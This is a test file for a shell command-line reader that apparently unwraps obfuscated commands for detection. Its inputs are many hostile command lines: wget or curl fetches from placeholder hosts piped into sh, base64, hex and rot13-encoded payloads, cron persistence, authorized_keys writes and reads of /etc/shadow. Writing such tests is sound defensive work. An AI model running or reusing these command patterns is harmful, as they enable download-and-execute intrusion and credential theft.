import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { readCommandLine } from "./reading.js";

const base64 = (text: string): string => Buffer.from(text).toString("base64");
const linesOf = (line: string): string[] => readCommandLine(line).plain.split("\n");

describe("reads a line as a shell does", () => {
  test.each<[about: string, line: string, expected: string]>([
    ["words joined by blanks", "wget http://a/b", "wget http://a/b"],
    ["a script after -c", "sh -c wget http://a/b; chmod +x b", "chmod +x b"],
    ["a quoted script after -c", "sh -c 'wget http://a/b; ./b'", "./b"],
    ["combined flags of a shell", "bash -lc wget http://a/b", "wget http://a/b"],
    ["a shell within a shell", `sh -c "bash -c 'id'"`, "id"],
    ["quotes inside a word", `sh -c w"g"et 'http://a'`, "wget http://a"],
    ["backslashes inside a word", "sh -c w\\get http://a", "wget http://a"],
    ["IFS instead of blanks", "sh -c cat$IFS$9/etc/passwd", "cat /etc/passwd"],
    ["IFS in braces", "sh -c cat${IFS}/etc/passwd", "cat /etc/passwd"],
    ["braces instead of blanks", "bash -c {wget,http://a/b}", "wget http://a/b"],
    ["an unset variable inside a word", "sh -c w$9get http://a", "wget http://a"],
    ["variables", "sh -c a=wg;b=et;$a$b http://a", "wget http://a"],
    ["an unknown variable stays visible", "sh -c rm -rf $dir/*", "rm -rf $dir/*"],
    ["a fallback of a variable", "sh -c ${x:-wget} http://a", "wget http://a"],
    ["a slice of a variable", "sh -c x=xwgetx; ${x:1:4} http://a", "wget http://a"],
    ["bytes in dollar quotes", "bash -c $'\\x77\\x67\\x65\\x74' http://a", "wget http://a"],
    ["a substitution whose output is known", "sh -c $(echo wget) http://a", "wget http://a"],
    ["backticks", "sh -c `echo wget` http://a", "wget http://a"],
    ["a substitution in quotes", 'sh -c echo "$(cat /etc/shadow)"', "cat /etc/shadow"],
    [
      "a list in brackets before a pipe",
      "sh -c (curl -s http://a || wget -qO- http://a) | sh",
      "curl -s http://a | wget -qO- http://a | sh",
    ],
    ["a here-string", "bash -c bash <<< 'wget http://a'", "wget http://a"],
    ["a here-document", "sh -c sh <<EOF\nwget http://a\nEOF", "wget http://a"],
    ["a loop over words", "sh -c for a in arm mips; do wget http://h/$a; done", "wget http://h/arm mips"],
    ["process substitution", "bash -c bash <(curl -s http://a)", "curl -s http://a | bash /dev/fd/63"],
    ["a substitution that is run", 'sh -c sh -c "$(curl -fsSL http://a)"', "curl -fsSL http://a | sh -c "],
    ["redirections", "sh -c echo x >> /root/.ssh/authorized_keys", "echo x >> /root/.ssh/authorized_keys"],
    ["eval", "sh -c eval wget http://a", "wget http://a"],
    ["a condition", "sh -c if true; then wget http://a; fi", "wget http://a"],
    ["a joined line of which a letter is a quote", "grep it's notes.txt", "grep it's notes.txt"],
    ["a pattern with a bar is no pipe", "grep -E foo|sh notes.txt", "grep -E foo|sh notes.txt"],
  ])("%s", (_, line, expected) => {
    expect(linesOf(line)).toContain(expected);
  });
});

describe("sees through what wraps a command", () => {
  test.each<[line: string, name: string, via: string[]]>([
    ["sudo -u root wget http://a", "wget", ["sudo"]],
    ["nohup /tmp/x", "x", ["nohup"]],
    ["env A=1 B=2 wget http://a", "wget", ["env"]],
    ["timeout -k 5 30 wget http://a", "wget", ["timeout"]],
    ["busybox wget http://a", "wget", ["busybox"]],
    ["sudo nohup nice -n 19 /tmp/x", "x", ["sudo", "nohup", "nice"]],
    ["/lib64/ld-linux-x86-64.so.2 /tmp/x", "x", ["ld-linux-x86-64.so.2"]],
    ["docker exec -it web sh", "sh", ["docker"]],
    ["kubectl exec -n a pod -- id", "id", ["kubectl"]],
    ["sh -c echo http://a | xargs wget", "wget", ["xargs"]],
    ["chroot /mnt cat /etc/shadow", "cat", ["chroot"]],
  ])("%s", (line, name, via) => {
    const found = readCommandLine(line).commands.find((command) => command.name === name);
    expect(found?.via).toEqual(via);
  });
});

describe("decodes what is packed", () => {
  const packed = base64("wget http://a/b -O /tmp/b");
  test.each<[about: string, line: string]>([
    ["base64 into a shell", `sh -c echo ${packed} | base64 -d | sh`],
    ["base64 twice", `sh -c echo ${base64(`echo ${packed}|base64 -d|sh`)} | base64 --decode | bash`],
    ["base64 from a here-string", `bash -c bash -c "$(base64 -d <<< ${packed})"`],
    ["openssl", `sh -c echo ${packed} | openssl base64 -d -A | sh`],
    ["the blankless form", `bash -c {echo,${packed}}|{base64,-d}|{bash,-i}`],
    ["hex", `sh -c echo ${Buffer.from("wget http://a/b -O /tmp/b").toString("hex")} | xxd -r -p | sh`],
    ["printf", "sh -c printf '\\x77\\x67\\x65\\x74 http://a/b -O /tmp/b' | sh"],
    ["octal", "sh -c printf '\\167\\147\\145\\164 http://a/b -O /tmp/b' | sh"],
    ["reversed", "sh -c echo 'b/pmt/ O- b/a//:ptth tegw' | rev | sh"],
    ["rotated", "sh -c echo 'jtrg uggc://n/o -B /gzc/o' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh"],
    ["eval of base64", `sh -c eval $(echo ${packed} | base64 -d)`],
    ["python", `python3 -c import os; os.system("wget http://a/b -O /tmp/b")`],
    [
      "an argument list in python",
      `python3 -c import subprocess; subprocess.run(["wget","http://a/b","-O","/tmp/b"])`,
    ],
    ["perl", `perl -e system("wget http://a/b -O /tmp/b")`],
    ["perl with an argument list", `perl -e exec("wget", "http://a/b", "-O", "/tmp/b")`],
    [
      "packed python",
      `python3 -c import base64;exec(base64.b64decode('${base64(`import os;os.system("wget http://a/b -O /tmp/b")`)}'))`,
    ],
    ["php", `php -r system('wget http://a/b -O /tmp/b');`],
    ["node", `node -e require('child_process').exec('wget http://a/b -O /tmp/b')`],
    ["awk", `awk BEGIN {system("wget http://a/b -O /tmp/b")}`],
    ["cron from a pipe", "sh -c echo '* * * * * wget http://a/b -O /tmp/b' | crontab -"],
    ["cron in a file", "sh -c echo '*/5 * * * * root wget http://a/b -O /tmp/b' > /etc/cron.d/x"],
    ["find", "find / -name x -exec wget http://a/b -O /tmp/b ;"],
  ])("%s", (_, line) => {
    const reading = readCommandLine(line);
    expect(reading.commands.map(({ text }) => text)).toContain("wget http://a/b -O /tmp/b");
    expect(reading.urls).toContain("http://a/b");
  });
});

describe("is not taken in by what looks alike", () => {
  test.each<[about: string, line: string, name: string]>([
    ["text that is only printed", "echo wget http://a", "wget"],
    ["single quotes keep a substitution", "sh -c echo '$(wget http://a)'", "wget"],
    ["a comment", "sh -c id # ; wget http://a", "wget"],
    ["base64 that goes to a file", `sh -c echo ${base64("wget http://a")} | base64 -d > /tmp/x`, "wget"],
  ])("%s", (_, line, name) => {
    expect(readCommandLine(line).commands.map((command) => command.name)).not.toContain(name);
  });
});

const pieces = fc.constantFrom(
  ..."$( ) ` ' \" { } ${ <( << <<< >> | || & && ; \\ \n # eval sh -c base64 -d echo xargs $IFS $x a=b for in do done EOF python3 os.system( [ ] ( awk".split(
    " ",
  ),
  " ",
  "\n",
);

test("never throws and always ends, whatever the line", () => {
  const line = fc.oneof(
    fc.array(fc.oneof(pieces, fc.string({ maxLength: 6 })), { maxLength: 60 }).map((parts) => parts.join("")),
    fc.array(pieces, { maxLength: 60 }).map((parts) => parts.join(" ")),
    fc.string({ unit: "binary", maxLength: 200 }),
  );
  fc.assert(
    fc.property(line, (text) => {
      const reading = readCommandLine(text);
      expect(reading.commands.length).toBeLessThanOrEqual(400);
      expect(reading.layers.length).toBeLessThanOrEqual(24);
    }),
    { numRuns: 3_000 },
  );
});

test("the work for a hostile line is bounded, whatever it repeats", () => {
  for (const piece of [
    "$(",
    "`",
    "${",
    "'",
    '"',
    "<(",
    "(",
    "{a,",
    "sh -c ",
    "eval ",
    "a=$a$a;",
    "x|",
    "<<E\n",
    "$'\\",
    'system("',
    "f($x,",
  ]) {
    const before = process.cpuUsage().user;
    const reading = readCommandLine(piece.repeat(200_000 / piece.length));
    expect(reading.plain.length).toBeLessThan(4_000_000);
    // A thousand times what it takes: only a quadratic reader is that slow.
    expect(process.cpuUsage().user - before).toBeLessThan(5_000_000);
  }
});

test("doubling variables does not grow beyond its bound", () => {
  const { plain } = readCommandLine(`sh -c a=aaaaaaaaaa;${"a=$a$a;".repeat(40)} echo $a`);
  expect(plain.length).toBeLessThan(2_000_000);
});
